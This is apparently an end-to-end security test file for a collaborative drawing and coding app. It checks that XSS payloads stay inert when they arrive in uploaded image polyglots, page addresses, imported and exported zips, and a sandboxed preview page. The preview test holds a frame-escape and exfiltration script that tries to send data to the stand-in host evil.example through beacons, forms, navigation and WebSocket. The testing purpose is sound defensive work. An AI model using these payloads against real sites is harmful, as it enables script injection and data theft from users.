/**
 * Files that people bring and take: images that are programs, archives, pictures, and the preview, which runs a page by
 * design and must keep it to itself. Also the addresses of pages. Seen as in xss.e2e.ts, by the same two people.
 */
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { strFromU8, strToU8, unzipSync, zipSync } from "fflate";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { recordsOf } from "#protocol/documents";
import { createRoom } from "../support/browser.ts";
import { openBoard } from "../support/drawing.ts";
import { hostileBoard } from "../support/hostile-board.ts";
import { PAYLOADS } from "../support/xss-payloads.ts";
import { aside, first, PATIENCE, startXssScene, watched, type XssScene } from "../support/xss-scene.ts";

let scene: XssScene;
beforeAll(async () => {
  scene = await startXssScene();
});
afterAll(() => scene?.dispose());
afterEach(() => scene.expectQuiet());

describe("nothing runs", () => {
  it("of an image that is also a program", async () => {
    const magic = { gif: "GIF89a", png: "\x89PNG\r\n\x1a\n", jpeg: "\xff\xd8\xff\xe0" };
    for (const [at, start] of Object.values(magic).entries()) {
      for (const rest of ["=1;xss(1)//", "<script>xss(2)</script>", "/*<svg onload=xss(3)>*/=1;xss(4)"]) {
        const bytes = Buffer.from(start + rest, "latin1");
        const answer = await scene.bare.page.request.post(`${scene.app.url}/api/rooms/${scene.room}/assets`, {
          headers: { Origin: scene.app.url, "Content-Type": "text/html" },
          data: bytes,
        });
        expect(answer.status(), `${at} ${rest}`).toBe(201);
        const { url } = (await answer.json()) as { url: string };
        await scene.both(async (viewer) => {
          await aside(viewer, async (page) => {
            await page.goto(scene.app.url + url).catch(() => {});
          });
          const outcome = await viewer.page.evaluate(
            (src) =>
              new Promise<string>((resolve) => {
                const script = document.createElement("script");
                script.onload = () => resolve("ran");
                script.onerror = () => resolve("refused");
                script.src = src;
                document.head.append(script);
                script.remove();
              }),
            url,
          );
          expect(outcome).toBe("refused");
        });
      }
    }
    for (const { text } of PAYLOADS.slice(0, 20)) {
      const answer = await scene.bare.page.request.post(`${scene.app.url}/api/rooms/${scene.room}/assets`, {
        headers: { Origin: scene.app.url, "Content-Type": "image/png" },
        data: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${text}</svg>`),
      });
      expect(answer.status()).toBe(415);
    }
  });

  it("of an address, whatever stands in it", async () => {
    await scene.both(async (viewer) => {
      await aside(viewer, async (page) => {
        for (const [at, { text }] of PAYLOADS.entries()) {
          const part = encodeURIComponent(text);
          const pages = [`/join/${part}`, `/${part}?${part}#${part}`];
          const others = [`/r/${part}`, `/preview/${part}`, `/api/rooms/${part}`];
          // What is refused is a document all the same.
          for (const path of at % 6 === 0
            ? [...pages, ...others]
            : viewer === scene.bare
              ? pages.slice(at % 2, 1 + (at % 2))
              : []) {
            await page.goto(scene.app.url + path).catch(() => {});
          }
        }
      });
      expect(viewer.canary.alarms.splice(0)).toEqual([]);
    });
  });

  it("of a zip that is imported, nor of one that is exported", async () => {
    const store = Object.fromEntries(hostileBoard(PAYLOADS, "page:page").shown.map(({ key, val }) => [key, val]));
    const hostile: Record<string, Uint8Array> = {
      "room.json": strToU8(JSON.stringify({ title: "<img src=x onerror=xss(1)>" })),
      "board.json": strToU8(JSON.stringify({ document: { schema: {}, store } })),
    };
    for (const { text } of PAYLOADS) hostile[`files/${text}`] = strToU8(text);
    const mo = await watched(await createRoom(scene.browser, scene.app, "Mo", { bypassCSP: true }), scene.app);
    await mo.page.getByRole("button", { name: "More", exact: true }).first().click();
    const [chooser] = await Promise.all([
      mo.page.waitForEvent("filechooser"),
      mo.page.getByRole("menuitem", { name: /Import files or a zip/ }).click(),
    ]);
    await chooser.setFiles({
      name: "<img src=x onerror=xss(9)>.zip",
      mimeType: "application/zip",
      buffer: Buffer.from(zipSync(hostile)),
    });
    await mo.page.getByText(/were left out/).waitFor();
    await openBoard(mo.page);
    await mo.canary.inspect(mo.page);
    expect(mo.canary.alarms).toEqual([]);
    await mo.context.close();

    const board = await (await scene.enter("Drawer")).connect("board");
    recordsOf(board.doc).push(hostileBoard(PAYLOADS, "page:page").shown);
    await board.acknowledged();
    const answer = await scene.served.page.request.get(`${scene.app.url}/api/rooms/${scene.room}/export`);
    const entries = unzipSync(await answer.body());
    const pictures = Object.entries(entries).filter(([name]) => name.endsWith(".svg"));
    expect(strFromU8(first(pictures)[1])).toContain("xss(100)");
    for (const [, bytes] of pictures) {
      const path = join(scene.app.dataDir, "exported.svg");
      writeFileSync(path, bytes);
      await scene.open(path, "opened.svg");
    }
  });
});

describe("the preview runs a page", () => {
  it("and keeps it away from the room, whatever it tries", async () => {
    const tries = `<!doctype html><title>t</title><body>${PAYLOADS.filter(
      ({ text }) => /^<(script|img|svg)[ >/].*xss/.test(text) && !text.includes("alert"),
    )
      .map(({ text }) => text)
      .join("\n")}
<script>
for (const attempt of [
  () => parent.xss("parent"), () => top.xss("top"), () => parent.eval("xss('eval')"), () => top.document.body.remove(),
  () => { top.location = "//evil.example/1" }, () => { parent.location.href = "javascript:xss('href')" },
  () => open("//evil.example/2"), () => { const a = document.createElement("a"); a.href = "//evil.example/3"; a.target = "_top"; a.click() },
  () => { const f = document.createElement("form"); f.target = "_top"; f.action = "//evil.example/4"; document.body.append(f); f.submit() },
  () => { for (const type of ["run.start", "chat.send", "saved"]) parent.postMessage({ type, text: "<img src=x onerror=xss(5)>" }, "*") },
  () => navigator.serviceWorker.register("sw.js"), () => { document.cookie = "pairlab=x" },
  () => { new Image().src = "//evil.example/5" }, () => navigator.sendBeacon("//evil.example/6", "x"), () => new WebSocket("ws://evil.example/7"),
]) try { attempt() } catch {}
xss("done");
</script>`;
    const client = await (await scene.enter("Mallory")).connect("code");
    client.file("index.html", tries);
    await client.acknowledged();
    await scene.served.page.getByRole("tab", { name: "Preview" }).click();
    await expect.poll(() => scene.served.canary.previewed, PATIENCE).toContain("done");
    await expect.poll(() => scene.served.canary.previewed.length, PATIENCE).toBeGreaterThan(5);
    await scene.served.page.getByRole("tab", { name: "Code" }).click();
    expect(await scene.served.page.evaluate(() => document.cookie)).not.toContain("pairlab=");
  });
});
